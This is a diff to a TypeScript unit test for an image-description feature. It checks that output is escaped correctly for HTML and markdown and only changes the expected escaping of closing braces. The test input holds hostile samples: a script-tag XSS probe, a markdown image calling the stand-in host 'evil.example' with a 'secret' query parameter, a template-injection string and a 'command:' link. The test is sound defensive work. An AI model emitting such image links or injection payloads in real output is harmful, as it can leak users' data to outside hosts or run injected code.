@@ -38,7 +38,7 @@ describe("Insert Image Description", () => {
     const answer =
       "A **log**.\n\nIt has <script>alert(1)</script> ![leak](https://evil.example/p.png?secret) {{ 7*7 }} [go](command:x)";
     const written: Readonly<Record<string, string>> = {
-      html: "<p>A <strong>log</strong>.</p>\n\n<p>It has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123; &#123; 7*7 }} go</p>",
+      html: "<p>A <strong>log</strong>.</p>\n\n<p>It has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123; &#123; 7*7 &#125;&#125; go</p>",
       markdown: "A **log**.\n\nIt has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123;&#123; 7&#42;7 }} go",
       plaintext: answer,
     };
